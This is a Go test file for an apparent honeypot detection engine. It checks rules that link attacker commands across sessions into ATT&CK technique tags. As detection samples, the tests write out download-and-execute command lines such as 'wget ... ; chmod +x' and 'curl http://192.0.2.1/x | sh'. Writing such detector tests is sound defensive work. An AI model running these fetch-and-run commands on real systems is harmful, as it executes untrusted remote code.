package engine

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/event"
)

// playEvents runs events through the rules and a stage, each as a batch of its
// own, and returns `rule_id source_id` of the tags.
func playEvents(rs *Ruleset, stage *Stage, events []event.Event) []string {
	snap, sc := NewSnapshot(rs, nil, testNow), NewScratch()
	var got []string
	for i := range events {
		tags := snap.Evaluate(nil, &events[i], testNow, sc)
		for _, tag := range stage.run(tags, sc.TakeSightings(nil)) {
			got = append(got, tag.RuleID+" "+tag.SourceKind+" "+tag.SourceID+" "+string(tag.Evidence))
		}
	}
	return got
}

// sessionOf makes command events of lines: one session, a minute apart.
func sessionOf(session string, lines ...string) []event.Event {
	var events []event.Event
	for i, line := range lines {
		ev := commandEvent(line)
		ev.SourceID = fmt.Sprintf("%s#cmd%d", session, i)
		ev.Time = testNow.Add(time.Duration(i) * time.Minute)
		if session != "" {
			ev.SessionID = event.Some(session)
		}
		events = append(events, *ev)
	}
	return events
}

func TestSequenceOverSession(t *testing.T) {
	const rule = `  sequence:
    over: session
    within: {minutes: 10, commands: 5}
    same: file
    steps:
      - effect: {fetches: {host: [remote, unknown]}}
      - effect: {mode: {how: executable}}
`
	rs := compileRule(t, "command", rule)
	fetch, run := "wget -O /tmp/x http://192.0.2.1/x", "chmod +x /tmp/x"
	tests := []struct {
		name  string
		lines []string
		want  int
	}{
		{"one line", []string{fetch + "; " + run}, 1},
		{"two lines", []string{fetch, run}, 1},
		{"once", []string{fetch, run, fetch, run}, 1},
		{"another order", []string{run, fetch}, 0},
		{"another file", []string{fetch, "chmod +x /tmp/y"}, 0},
		{"where the directory is unknown the base name decides", []string{fetch, "chmod +x x"}, 1},
		{"loopback", []string{"wget -O /tmp/x http://localhost/x", run}, 0},
		{"others between", []string{fetch, "id", "id", "id", run}, 1},
		{"too many between", []string{fetch, "id", "id", "id", "id", "id", run}, 0},
		{"the latest start counts", []string{fetch, "id", "id", "id", fetch, "id", run}, 1},
		{"the file of a pipe is the file of no other", []string{"wget -qO- http://192.0.2.1/x | cat", "chmod +x -"}, 0},
		{"an earlier command of the line is no later step", []string{"chmod +x /tmp/x; " + fetch}, 0},
		{"between two of the same", []string{fetch + "; " + run + "; " + fetch}, 1},
	}
	for _, tt := range tests {
		if got := playEvents(rs, NewStage(), sessionOf("s", tt.lines...)); len(got) != tt.want {
			t.Errorf("%s: %q gives %v, want %d tags", tt.name, tt.lines, got, tt.want)
		}
	}
}

func TestSequenceTag(t *testing.T) {
	rs := compileRule(t, "command", "  sequence: {over: session, within: {minutes: 9}, steps: [{contains: first}, {contains: second}]}")
	lines := []string{"echo first", "id", "echo second"}
	got := playEvents(rs, NewStage(), sessionOf("s1", lines...))
	want := []string{`R0001 session s1 {"command_ids":["s1#cmd0","s1#cmd2"],"matched":["echo first","echo second"]}`}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("tags of a session differ (-want +got):\n%s", diff)
	}
	got = playEvents(rs, NewStage(), sessionOf("", lines...))
	if len(got) > 0 {
		t.Errorf("lines without a session_id are one session: %v", got)
	}
	late := sessionOf("s", lines...)
	late[2].Time = testNow.Add(10 * time.Minute)
	if got := playEvents(rs, NewStage(), late); len(got) > 0 {
		t.Errorf("a step 10 minutes later counts: %v", got)
	}
	late[2].Time = testNow.Add(-time.Hour)
	if got := playEvents(rs, NewStage(), late); len(got) != 1 {
		t.Errorf("a step of an earlier time does not count: %v", got)
	}
	late[0].Time = time.Time{}
	if got := playEvents(rs, NewStage(), late); len(got) != 1 {
		t.Errorf("a step without a time does not count: %v", got)
	}
}

func TestSequenceOverAttacker(t *testing.T) {
	rs := compileRule(t, "command", "  sequence: {over: attacker, within: {minutes: 30}, steps: [{contains: first}, {contains: second}]}")
	events := append(sessionOf("s1", "echo first"), sessionOf("s2", "echo second", "echo first", "echo second")...)
	got := playEvents(rs, NewStage(), events)
	if len(got) != 1 || !strings.HasPrefix(got[0], "R0001 session seq:") || !strings.Contains(got[0], "@2026-") {
		t.Errorf("an attacker's sessions give %v, want one tag of seq:DECKY:ATTACKER@DAY", got)
	}
	events[0].AttackerUUID = "another"
	if got := playEvents(rs, NewStage(), events[:2]); len(got) > 0 {
		t.Errorf("two attackers give %v, want nothing", got)
	}
}

func TestSequenceOverSessions(t *testing.T) {
	rs := compileRule(t, "command", "  sequence: {over: sessions, within: {minutes: 30}, steps: [{contains: first}, {contains: second}]}")
	first, second := sessionOf("s1", "echo first", "echo second"), sessionOf("s2", "echo second")
	if got := playEvents(rs, NewStage(), first); len(got) > 0 {
		t.Errorf("one session gives %v, want nothing", got)
	}
	if got := playEvents(rs, NewStage(), append(first, second...)); len(got) != 1 {
		t.Errorf("two sessions give %v, want one tag", got)
	}
	if got := playEvents(rs, NewStage(), sessionOf("", "echo first; echo second")); len(got) > 0 {
		t.Errorf("one line without a session gives %v, want nothing", got)
	}
	if got := playEvents(rs, NewStage(), sessionOf("", "echo first", "echo second")); len(got) != 1 {
		t.Errorf("two lines without a session give %v, want one tag", got)
	}
	whole := append(first[:1:1], second...)
	stage := NewStage()
	playEvents(rs, stage, whole[:1])
	resumed := NewStage()
	if err := resumed.UnmarshalState(stage.MarshalState()); err != nil {
		t.Fatal(err)
	}
	if got := playEvents(rs, resumed, first[1:]); len(got) > 0 {
		t.Errorf("the session of the first step goes on from the state and gives %v, want nothing", got)
	}
}

// TestStageState cuts a run between any two events, and goes on from the state.
func TestStageState(t *testing.T) {
	rs := compileRule(t, "command", "  sequence: {over: session, within: {minutes: 90}, same: file, steps: [{effect: {fetches: any}}, {effect: {mode: any}}, {contains: end, effect: {reads: any}}]}")
	events := sessionOf("s", "wget http://192.0.2.1/a", "chmod 777 a", "wget http://192.0.2.1/b", "id", "chmod 777 b", "cat b end", "cat a end")
	want := playEvents(rs, NewStage(), events)
	if len(want) != 1 {
		t.Fatalf("the whole run gives %v, want a tag", want)
	}
	for cut := range events {
		first := NewStage()
		got := playEvents(rs, first, events[:cut])
		second := NewStage()
		if err := second.UnmarshalState(first.MarshalState()); err != nil {
			t.Fatal(err)
		}
		got = append(got, playEvents(rs, second, events[cut:])...)
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("cut at %d: tags differ (-whole +cut):\n%s", cut, diff)
		}
	}
}

// TestStageAndRulesThatChange: an edited rule drops what it has, a disabled
// one keeps it and does not fire.
func TestStageAndRulesThatChange(t *testing.T) {
	const rule = "  sequence: {over: session, within: {minutes: 90}, steps: [{contains: first}, {contains: second}]}"
	rs := compileRule(t, "command", rule)
	edited := compileRule(t, "command", rule+"\n# edited")
	events := sessionOf("s", "echo first", "echo second", "echo second")
	stage, sc := NewStage(), NewScratch()
	run := func(snap *Snapshot, ev *event.Event) int {
		return len(stage.run(snap.Evaluate(nil, ev, testNow, sc), sc.TakeSightings(nil)))
	}
	on := NewSnapshot(rs, nil, testNow)
	off := NewSnapshot(rs, event.States{"R0001": {Mode: event.Disabled}}, testNow)
	if n := run(on, &events[0]) + run(off, &events[1]); n != 0 {
		t.Errorf("a disabled rule fires %d times", n)
	}
	if n := run(on, &events[2]); n != 1 {
		t.Errorf("enabled again the rule fires %d times, want 1", n)
	}
	stage = NewStage()
	if n := run(on, &events[0]) + run(NewSnapshot(edited, nil, testNow), &events[1]); n != 0 {
		t.Errorf("an edited rule fires %d times on what its old text began", n)
	}
}

func TestStageForgets(t *testing.T) {
	rs := compileRule(t, "command", "  sequence: {over: session, within: {minutes: 90}, same: file, steps: [{effect: {fetches: any}}, {effect: {mode: any}}]}")
	stage := NewStage()
	var lines []string
	for i := range 2 * maxPartials {
		lines = append(lines, fmt.Sprintf("wget http://192.0.2.1/f%d", i))
	}
	playEvents(rs, stage, sessionOf("s", append(lines, "id")...))
	for _, tt := range []struct {
		file string
		want int
	}{{"f0", 0}, {"f127", 1}} {
		if got := playEvents(rs, stage, sessionOf("s", "chmod 777 "+tt.file)); len(got) != tt.want {
			t.Errorf("%s gives %v, want %d tags: 64 files are remembered", tt.file, got, tt.want)
		}
	}
	long := strings.Repeat("x", 200)
	for i := range 240 {
		var events []event.Event
		for k := range 250 {
			events = append(events, sessionOf(fmt.Sprint(i, k, long), "wget http://192.0.2.1/"+long)...)
		}
		playEvents(rs, stage, events)
		if stage.Evicted() > 0 {
			return
		}
	}
	t.Error("nothing is forgotten after 60,000 sessions")
}

func TestLineSequence(t *testing.T) {
	rs := compileRule(t, "command", "  sequence: {same: file, steps: [{effect: {fetches: any}}, {effect: {mode: {how: executable}}}]}")
	snap := NewSnapshot(rs, nil, testNow)
	tests := []struct {
		line string
		want bool
	}{
		{"wget -O x http://192.0.2.1/; chmod +x x", true},
		{"chmod +x x; wget -O x http://192.0.2.1/", false},
		{"wget -O x http://192.0.2.1/; chmod +x y", false},
		{"wget -O x http://192.0.2.1/; wget -O y http://192.0.2.1/; chmod +x y", true},
		{"echo $(wget -O x http://192.0.2.1/; chmod +x x)", true},
	}
	for _, tt := range tests {
		tags := snap.Evaluate(nil, commandEvent(tt.line), testNow, NewScratch())
		if (len(tags) == 1) != tt.want {
			t.Errorf("%s: %d tags, want %v", tt.line, len(tags), tt.want)
		}
		if len(tags) == 1 && !strings.Contains(string(tags[0].Evidence), `"matched":["wget`) {
			t.Errorf("%s: evidence %s, want what each step matched", tt.line, tags[0].Evidence)
		}
	}
}

func TestSessionConditions(t *testing.T) {
	tests := []struct {
		match, payload string
		want           bool
	}{
		{"count: {of: {command: {program: cat}}, min: 2}", "[cat a, id, sudo cat b]", true},
		{"count: {of: {command: {program: cat}}, min: 3}", "[cat a, id, sudo cat b]", false},
		{"every: {field: command_name, in_set: [id, cat]}", "[cat a, id]", true},
		{"every: {field: command_name, in_set: [id, cat]}", "[cat a, id, ls]", false},
		{"every: {contains: x}", "[]", false},
		{"field: failed_logins\n  min: 5", "5", true},
		{"field: failed_logins\n  min: 5\n  max: 9", "10", false},
		{"field: logged_in\n  is: true", "true", true},
		{"field: logged_in\n  is: true", "false", false},
	}
	for _, tt := range tests {
		rs := compileRule(t, "session", "  "+tt.match)
		ev := &event.Event{SourceID: "s", AttackerUUID: "a"}
		ev.SetKind("session")
		field := "commands"
		for _, name := range []string{"failed_logins", "logged_in"} {
			if strings.Contains(tt.match, name) {
				field = name
			}
		}
		p, diags := Parse(Source{Name: "x", Data: []byte("match: {x: " + tt.payload + "}")})
		if p == nil {
			t.Fatal(diags)
		}
		ev.SetField(field, (&exampleReader{}).value(p.Match.Items[0]))
		if got := len(NewSnapshot(rs, nil, testNow).Evaluate(nil, ev, testNow, NewScratch())) > 0; got != tt.want {
			t.Errorf("%s on %s = %v, want %v", tt.match, tt.payload, got, tt.want)
		}
	}
}

// TestSequenceThroughPipes: what flows from a fetch into a shell is a file
// between the two.
func TestSequenceThroughPipes(t *testing.T) {
	rs := compileRule(t, "command", "  sequence: {same: file, steps: [{effect: {fetches: any}}, {effect: {runs: any}}]}")
	snap := NewSnapshot(rs, nil, testNow)
	tests := []struct {
		line string
		want bool
	}{
		{"curl http://192.0.2.1/x | sh", true},
		{"curl http://192.0.2.1/x | tee y | sudo bash -s a", true},
		{`sh -c "$(curl -s http://192.0.2.1/x)"`, true},
		{"bash <(curl -s http://192.0.2.1/x)", true},
		{"curl http://192.0.2.1/x | cat; cat y | sh", false},
		{"curl http://192.0.2.1/x; sh", false},
		{"echo $(curl http://192.0.2.1/x); cat y | sh", false},
	}
	for _, tt := range tests {
		if got := len(snap.Evaluate(nil, commandEvent(tt.line), testNow, NewScratch())) > 0; got != tt.want {
			t.Errorf("%s = %v, want %v", tt.line, got, tt.want)
		}
	}
}

// TestTechniquesOfFannedOutCommands: a session event's own commands count, and
// those of others do not.
func TestTechniquesOfFannedOutCommands(t *testing.T) {
	const head = "rule_id: %s\nrule_version: 1\nname: %s\ndescription: x\napplies_to: [%s]\nmatch: %s\nemits: [{tactic: TA0007, technique_id: %s, confidence: 0.7}]\n"
	rule := func(id, kind, match, technique string) Source {
		return Source{Name: id + ".yaml", Data: fmt.Appendf(nil, head, id, strings.ToLower(id), kind, match, technique)}
	}
	rs := mustCompile(t, []Source{
		rule("R0001", "command", "{contains: uname}", "T1082"), rule("R0002", "command", "{contains: whoami}", "T1033"),
		rule("R0003", "session", "{techniques: {tactic: TA0007, min: 2}}", "T1087"),
	})
	session := event.Event{SourceID: "s", AttackerUUID: "a", SessionID: event.Some("s")}
	session.SetKind("session")
	events := append([]event.Event{session}, sessionOf("s", "uname", "whoami")...)
	for _, fanned := range []bool{true, false} {
		snap, sc, stage := NewSnapshot(rs, nil, testNow), NewScratch(), NewStage()
		var tags []event.Tag
		for i := range events {
			events[i].FannedOut = fanned && i > 0
			tags = snap.Evaluate(tags, &events[i], testNow, sc)
		}
		tags = stage.run(tags, sc.TakeSightings(nil))
		if got := tags[0].RuleID == "R0003"; got != fanned {
			t.Errorf("fanned out %v: the first tag is of %s", fanned, tags[0].RuleID)
		}
	}
}
